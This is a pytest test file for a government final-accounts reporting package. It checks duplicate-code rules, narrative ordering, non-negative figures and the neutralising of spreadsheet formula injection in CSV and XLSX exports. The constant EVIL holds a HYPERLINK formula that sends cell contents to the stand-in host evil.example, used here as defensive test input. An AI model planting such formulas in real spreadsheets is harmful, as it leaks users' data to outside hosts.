"""Issue 11: the model keeps one rule in both directions, and exports are safe.

One test (or parametrised case) per item of the issue: duplicate codes (7),
formula injection in CSV and XLSX (9), ``narrative_order`` (11) and figures
that cannot be negative (15). Expected values come from the issue's text or
from arithmetic, never from the code's output.
"""

from __future__ import annotations

import csv
import io
import zipfile
from decimal import Decimal
from pathlib import Path
from typing import Any

import attrs
import pytest

from govfinal import (
    Assets,
    BasicExpenditureDetail,
    BudgetBasis,
    BudgetStatement,
    BudgetUnit,
    BudgetVariance,
    CompletionSpending,
    EconomicLine,
    EvaluationKind,
    Figure,
    FinalAccount,
    FunctionLine,
    FunctionTree,
    FundAmounts,
    Funding,
    FundingRow,
    GrowthStatement,
    Indicator,
    Measure,
    PerformanceSummary,
    PriorYear,
    Procurement,
    SelfEvaluation,
    ThreePublicExpenses,
)
from govfinal.errors import AmountError, ClassificationError, GovFinalError
from govfinal.io import LoadError, dumps, loads
from govfinal.model.expenditure import Expenditure, NatureAmounts
from govfinal.model.income import IncomeSources
from govfinal.model.performance import Comparator
from govfinal.render import build_document
from govfinal.render.csv_out import ENCODING, table_csv
from govfinal.render.document import Table, TableRow
from tests.checks.base import base_report

UNIT = BudgetUnit(name="示例单位", fiscal_year=2023)
MINIMAL_TOML = '[unit]\nname = "示例单位"\nfiscal_year = 2023\n'
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"c")'  # the name


def refused_load(text: str) -> LoadError:
    """The :class:`LoadError` that loading TOML ``text`` must raise."""
    with pytest.raises(LoadError) as caught:
        loads(text, format="toml")
    return caught.value


def paths_and_messages(error: LoadError) -> list[tuple[str, str]]:
    return [(problem.path, problem.message) for problem in error.problems]


# -- item 7: one rule for duplicate codes, in Python and in files -------------------------


def test_item_07_duplicate_function_code_refused_by_the_model() -> None:
    """Issue 11 item 7: a 支出功能分类 code listed twice is refused by ``FunctionTree``."""
    lines = [FunctionLine("206", "科学技术支出"), FunctionLine("20601", "科学技术管理事务")]
    lines.append(FunctionLine("206", "科学技术支出（重复）"))
    with pytest.raises(ClassificationError) as caught:
        FunctionTree(lines=lines)
    message = str(caught.value)
    assert message.startswith("FunctionTree.lines: ")
    assert "'206'" in message and "lines[0]" in message and "lines[2]" in message


def test_item_07_duplicate_economic_code_refused_by_the_model() -> None:
    """Issue 11 item 7: a 支出经济分类 code listed twice is refused by the economic table."""
    lines = [EconomicLine("30101", "基本工资", "1.00"), EconomicLine("30101", "基本工资", "2.00")]
    with pytest.raises(ClassificationError) as caught:
        BasicExpenditureDetail(lines=lines)
    message = str(caught.value)
    assert message.startswith("BasicExpenditureDetail.lines: ")
    assert "'30101'" in message and "lines[0]" in message and "lines[1]" in message


def test_item_07_evolve_cannot_bring_a_duplicate_in() -> None:
    """Issue 11 item 7: ``attrs.evolve`` runs the same rule (no back door to ``dumps``)."""
    tree = base_report().functions
    with pytest.raises(ClassificationError):
        attrs.evolve(tree, lines=(*tree.lines, tree.lines[0]))


def test_item_07_loading_refuses_the_same_and_says_where() -> None:
    """Issue 11 item 7: the loader refuses a repeat too, at the repeated line's path."""
    text = MINIMAL_TOML + (
        '[[functions.lines]]\ncode = "206"\nname = "科学技术支出"\n'
        '[[functions.lines]]\ncode = "206"\nname = "科学技术支出"\n'
    )
    error = refused_load(text)
    located = [(path, message) for path, message in paths_and_messages(error) if "[1]" in path]
    assert located == [
        ("functions.lines[1].code", "code '206' is listed twice (first at functions.lines[0])")
    ]


def test_item_07_what_python_builds_loads_back() -> None:
    """Issue 11 item 7: a report the model accepts is one its own file reads back, equal."""
    report = base_report()
    for fmt in ("toml", "json"):
        assert loads(dumps(report, format=fmt), format=fmt) == report


# -- item 9: no formula reaches a spreadsheet ---------------------------------------------

FORMULA_TEXTS = (EVIL, "+1+1", "-1+1", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "-", "=100%")
"""Text cells that start with ``= + - @``, a tab or a carriage return (OWASP)."""

AMOUNTS = ("-6.47", "-1,234.50", "0.00", "12.30")
"""Formatted amounts, negative ones included: numbers, never prefixed."""


def hostile_table() -> Table:
    """A table whose every kind of text (title, unit, header, body, note) is a formula."""
    rows = [
        TableRow([text, amount]) for text, amount in zip(FORMULA_TEXTS, AMOUNTS * 2, strict=True)
    ]
    return Table(EVIL, [EVIL, "金额"], rows, unit="@unit", notes=["=note()"], key="evil")


def test_item_09_csv_text_cells_are_neutralised() -> None:
    """Issue 11 item 9: CSV text cells starting with = + - @ \\t \\r get a leading apostrophe."""
    rows = list(csv.reader(io.StringIO(table_csv(hostile_table()).decode(ENCODING))))
    assert rows[0] == ["'" + EVIL]
    assert rows[1] == ["'@unit"]
    assert rows[2] == ["'" + EVIL, "金额"]
    body = rows[3 : 3 + len(FORMULA_TEXTS)]
    assert [row[0] for row in body] == ["'" + text for text in FORMULA_TEXTS]
    assert rows[-1] == ["'=note()"]


def test_item_09_csv_negative_numbers_stay_numbers() -> None:
    """Issue 11 item 9: amounts (``-6.47``) are written as they are, without an apostrophe."""
    rows = list(csv.reader(io.StringIO(table_csv(hostile_table()).decode(ENCODING))))
    body = rows[3 : 3 + len(FORMULA_TEXTS)]
    assert [row[1] for row in body] == list((AMOUNTS * 2)[: len(FORMULA_TEXTS)])


def test_item_09_csv_plain_text_is_unchanged() -> None:
    """Issue 11 item 9: text that cannot start a formula is written as it is."""
    table = Table("收入支出决算总表", ["项目", "金额"], [TableRow(["科学技术支出", "1.00"])])
    rows = list(csv.reader(io.StringIO(table_csv(table).decode(ENCODING))))
    assert rows == [["收入支出决算总表"], ["项目", "金额"], ["科学技术支出", "1.00"]]


def _sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as archive:
        names = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        return "".join(archive.read(name).decode("utf-8") for name in names)


def test_item_09_xlsx_text_is_a_string_never_a_formula(tmp_path: Path) -> None:
    """Issue 11 item 9: an XLSX text cell is stored as a string, with the quote prefix."""
    openpyxl = pytest.importorskip("openpyxl")
    from govfinal.render.xlsx import write_xlsx

    path = write_xlsx([hostile_table()], tmp_path / "evil.xlsx")
    assert "<f>" not in _sheet_xml(path) and "<f " not in _sheet_xml(path)
    sheet = openpyxl.load_workbook(path).active
    cells = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    formula_like = [cell for cell in cells if cell.value[:1] in ("=", "+", "-", "@", "\t", "\r")]
    texts = {cell.value for cell in formula_like}
    # Shown as written ("\r=1+1" comes back as "\n=1+1": XML normalises line ends).
    written = {text for text in FORMULA_TEXTS if not text.startswith("\r")}
    assert {EVIL, "@unit", "=note()", *written} <= texts
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in formula_like)


def test_item_09_xlsx_negative_numbers_stay_numbers(tmp_path: Path) -> None:
    """Issue 11 item 9: amounts, negative ones included, are numbers in the workbook."""
    openpyxl = pytest.importorskip("openpyxl")
    from govfinal.render.xlsx import write_xlsx

    path = write_xlsx([hostile_table()], tmp_path / "evil.xlsx")
    sheet = openpyxl.load_workbook(path).active
    header = 3  # title, unit, header
    column = [sheet.cell(row=header + 1 + i, column=2) for i in range(len(FORMULA_TEXTS))]
    assert [cell.data_type for cell in column] == ["n"] * len(column)
    assert [Decimal(str(cell.value)) for cell in column[:2]] == [
        Decimal("-6.47"),
        Decimal("-1234.50"),
    ]


def test_item_09_a_report_name_reaches_the_exports_as_text(tmp_path: Path) -> None:
    """Issue 11 item 9: the issue's name on a function line is exported as inert text."""
    openpyxl = pytest.importorskip("openpyxl")
    from govfinal.render.tables import build_tables
    from govfinal.render.xlsx import write_xlsx

    report = base_report()
    tree = report.functions
    lines = [attrs.evolve(line, name=EVIL) if line.code == "2010601" else line for line in tree]
    report = attrs.evolve(report, functions=attrs.evolve(tree, lines=lines))
    tables = build_tables(report, "zh")
    exported = b"".join(table_csv(table) for table in tables).decode(ENCODING)
    assert "'" + EVIL.replace('"', '""') in exported
    assert f'"{EVIL.replace(chr(34), chr(34) * 2)}"' not in exported  # never bare
    path = write_xlsx(tables, tmp_path / "report.xlsx")
    workbook = openpyxl.load_workbook(path)
    found = [
        cell
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value == EVIL
    ]
    assert found and all(cell.data_type == "s" and cell.quotePrefix for cell in found)


def test_xlsx_control_character_is_written_as_a_visible_escape(tmp_path: Path) -> None:
    """A text a workbook cannot hold (U+0007) is stored escaped, as a terminal shows it."""
    openpyxl = pytest.importorskip("openpyxl")
    from govfinal.render.xlsx import write_xlsx

    path = write_xlsx([Table("表", ["项目"], [TableRow(["铃\x07\n下一行"])])], tmp_path / "b.xlsx")
    cells = [cell.value for row in openpyxl.load_workbook(path).active.iter_rows() for cell in row]
    assert "铃\\x07\n下一行" in cells


# -- item 11: narrative_order names 项 of the tree, each once ----------------------------


def _tree_lines() -> list[FunctionLine]:
    spent = FundAmounts(basic="1.00")
    return [
        FunctionLine("206", "科学技术支出"),
        FunctionLine("20601", "科学技术管理事务"),
        FunctionLine("2060101", "行政运行", general_budget=spent),
        FunctionLine("2060102", "一般行政管理事务", general_budget=spent),
    ]


@pytest.mark.parametrize(
    ("order", "expected"),
    [
        (["2069999"], ["'2069999'", "narrative_order[0]", "not a line of the tree"]),
        (["2060101", "2060102", "2060101"], ["'2060101'", "narrative_order[0]", "[2]", "twice"]),
        (["20601"], ["'20601'", "narrative_order[0]", "not a 项"]),
    ],
    ids=["unknown-code", "listed-twice", "not-a-subitem"],
)
def test_item_11_narrative_order_is_validated(order: list[str], expected: list[str]) -> None:
    """Issue 11 item 11: an unknown, repeated or non-项 code in narrative_order is refused."""
    with pytest.raises(ClassificationError) as caught:
        FunctionTree(lines=_tree_lines(), narrative_order=order)
    message = str(caught.value)
    assert message.startswith("FunctionTree.narrative_order: ")
    assert all(part in message for part in expected), message


def test_item_11_loading_names_the_place() -> None:
    """Issue 11 item 11: the loader reports the bad code at ``functions.narrative_order``."""
    text = MINIMAL_TOML + (
        '[functions]\nnarrative_order = ["2060101", "2069999"]\n'
        '[[functions.lines]]\ncode = "2060101"\nname = "行政运行"\n'
    )
    (problem,) = refused_load(text).problems
    assert problem.path == "functions.narrative_order"
    assert "'2069999'" in problem.message and "narrative_order[1]" in problem.message


def test_item_11_many_repeats_cannot_blow_up_a_report() -> None:
    """Issue 11 item 11: 100,000 repeats are refused at once, not rendered 100,000 times."""
    with pytest.raises(ClassificationError):
        FunctionTree(lines=_tree_lines(), narrative_order=["2060101"] * 100_000)


def test_item_11_a_valid_order_is_walked_once_each_and_numbered_without_gaps() -> None:
    """Issue 11 item 11: the 项 come in the stated order, once each, numbered 1, 2, …"""
    lines = [*_tree_lines(), FunctionLine("2060199", "其他科学技术管理事务支出")]  # no 一般公共预算
    tree = FunctionTree(lines=lines, narrative_order=["2060102", "2060199", "2060101"])
    assert [line.code for line in tree.in_narrative_order()] == ["2060102", "2060199", "2060101"]
    report = attrs.evolve(base_report(), functions=tree)
    texts = [getattr(block, "text", "") for block in build_document(report, glossary=[])]
    start = texts.index("（三）一般公共预算财政拨款支出决算具体情况")
    items = [text for text in texts[start + 1 :] if "支出决算数为" in text]
    assert [text[:2] for text in items] == ["1.", "2."]
    assert "一般行政管理事务（项）" in items[0] and "行政运行（项）" in items[1]


def test_item_11_a_subitem_the_order_leaves_out_is_still_discussed() -> None:
    """Issue 11 item 11: a 项 with spending that ``narrative_order`` omits is not dropped:
    it follows the listed ones, in code order."""
    tree = FunctionTree(lines=_tree_lines(), narrative_order=["2060102"])
    assert [line.code for line in tree.in_narrative_order()] == ["2060102", "2060101"]
    report = attrs.evolve(base_report(), functions=tree)
    texts = [getattr(block, "text", "") for block in build_document(report, glossary=[])]
    items = [text for text in texts if "支出决算数为" in text and "（项）" in text]
    assert [("一般行政管理事务（项）" in t, "行政运行（项）" in t) for t in items] == [
        (True, False),
        (False, True),
    ]


# -- item 15: figures that cannot be negative ------------------------------------------


def _indicator(**fields: Any) -> Indicator:
    return Indicator("产出指标", "数量指标", "发放人数", Comparator.GE, **fields)


def _evaluation(**fields: Any) -> SelfEvaluation:
    funding = Funding(FundingRow("年度总资金"))
    return SelfEvaluation(EvaluationKind.PROJECT, "项目", funding, **fields)


NEGATIVE_REFUSED = [
    # 国有资产: stocks (the two figures first)
    (lambda: Assets(building_area=-500), "Assets.building_area"),
    (lambda: Assets(fixed_assets_original_value="-12.5"), "Assets.fixed_assets_original_value"),
    (lambda: Assets(building_value="-1.00"), "Assets.building_value"),
    (lambda: Assets(vehicle_value="-0.01"), "Assets.vehicle_value"),
    # 政府采购: contracts awarded (their shares are statements, judged by N904)
    (lambda: Procurement(goods="-1.00"), "Procurement.goods"),
    (lambda: Procurement(works="-1.00"), "Procurement.works"),
    (lambda: Procurement(services="-1.00"), "Procurement.services"),
    (lambda: Procurement(stated_total="-1.00"), "Procurement.stated_total"),
    (lambda: Procurement(sme_contracts="-1.00"), "Procurement.sme_contracts"),
    (lambda: Procurement(small_micro_contracts="-1.00"), "Procurement.small_micro_contracts"),
    # “三公”经费 and 机关运行经费: spending, budget and last year's spending
    (lambda: ThreePublicExpenses(overseas=Figure("-1.00")), "ThreePublicExpenses.overseas.amount"),
    (
        lambda: ThreePublicExpenses(reception=Figure(budget=BudgetVariance(budget="-2.00"))),
        "ThreePublicExpenses.reception.budget.budget",
    ),
    (
        lambda: ThreePublicExpenses(vehicles=Figure(prior=PriorYear(amount="-3.00"))),
        "ThreePublicExpenses.vehicles.prior.amount",
    ),
    (lambda: ThreePublicExpenses(total=Figure("-1.00")), "ThreePublicExpenses.total.amount"),
    (
        lambda: FinalAccount(unit=UNIT, operating_costs=Figure("-1.00")),
        "FinalAccount.operating_costs.amount",
    ),
    # 预算绩效: budgets, execution, rates, weights, scores
    (lambda: _indicator(weight="-10"), "Indicator.weight"),
    (lambda: _indicator(score="-1"), "Indicator.score"),
    (lambda: FundingRow("年度总资金", initial_budget="-1.00"), "FundingRow.initial_budget"),
    (lambda: FundingRow("年度总资金", full_year_budget="-1.00"), "FundingRow.full_year_budget"),
    (lambda: FundingRow("年度总资金", executed="-1.00"), "FundingRow.executed"),
    (lambda: Funding(FundingRow("年度总资金"), weight="-10"), "Funding.weight"),
    (
        lambda: Funding(FundingRow("年度总资金"), stated_execution_rate="-1"),
        "Funding.stated_execution_rate",
    ),
    (lambda: Funding(FundingRow("年度总资金"), stated_score="-1"), "Funding.stated_score"),
    (lambda: CompletionSpending(total="-1.00"), "CompletionSpending.total"),
    (lambda: _evaluation(stated_total_score="-1"), "SelfEvaluation.stated_total_score"),
    (lambda: _evaluation(stated_total_weight="-100"), "SelfEvaluation.stated_total_weight"),
    (lambda: PerformanceSummary(department_budget="-1"), "PerformanceSummary.department_budget"),
    (lambda: PerformanceSummary(project_executed="-1"), "PerformanceSummary.project_executed"),
]


@pytest.mark.parametrize(
    ("build", "where"), NEGATIVE_REFUSED, ids=[where for _, where in NEGATIVE_REFUSED]
)
def test_item_15_impossible_negative_figures_are_refused(build: Any, where: str) -> None:
    """Issue 11 item 15: a figure that cannot be negative is refused, class and field named."""
    with pytest.raises(AmountError) as caught:
        build()
    message = str(caught.value)
    assert message.startswith(f"{where}: ") and "negative" in message


def test_item_15_loading_names_the_place() -> None:
    """Issue 11 item 15: ``building_area = -500`` in a file is refused at its path."""
    error = refused_load(MINIMAL_TOML + "[assets]\nbuilding_area = -500\n")
    assert [(path, "negative" in message) for path, message in paths_and_messages(error)] == [
        ("assets.building_area", True)
    ]


NEGATIVE_KEPT = [
    # changes, balances, adjustments: a real report can print these negative
    lambda: PriorYear(change="-6.47"),
    lambda: GrowthStatement("income.grand_total", "-12.5"),
    lambda: BudgetStatement(
        "fiscal.expenditure", "fiscal.budget.budget", BudgetBasis.INITIAL, Measure.VARIANCE, "-3.00"
    ),
    lambda: FundAmounts(closing="-0.50", stated_expenditure="-1.00"),
    lambda: NatureAmounts(basic="-1.00"),
    lambda: Expenditure(closing_balance="-2.00", surplus_distribution="-1.00"),
    lambda: IncomeSources(other="-1.00"),
    lambda: EconomicLine("30199", "其他工资福利支出", "-0.50"),
    lambda: _indicator(target="-5", actual="-6"),  # an indicator may measure a decrease
    lambda: ThreePublicExpenses(overseas=Figure("1.00", prior=PriorYear(change="-1.00"))),
]


@pytest.mark.parametrize("build", NEGATIVE_KEPT)
def test_item_15_figures_that_can_be_negative_are_kept(build: Any) -> None:
    """Issue 11 item 15: changes, balances and adjustments stay signed."""
    assert build() is not None


@pytest.mark.parametrize("zero", ["0", "0.00", "-0", 0, Decimal("-0.00")])
def test_item_15_zero_is_not_negative(zero: object) -> None:
    """Issue 11 item 15: zero, signed or not, is a valid area, contract or score."""
    assert Assets(building_area=zero).building_area == 0  # type: ignore[arg-type]
    assert Procurement(goods=zero).goods == 0  # type: ignore[arg-type]


def test_item_15_refusals_are_govfinal_errors() -> None:
    """Issue 11 item 15: the refusal is a govfinal error (a ValueError), never a traceback."""
    with pytest.raises(GovFinalError):
        Assets(building_area="-500")
    with pytest.raises(ValueError, match="negative"):
        Assets(building_area="-500")
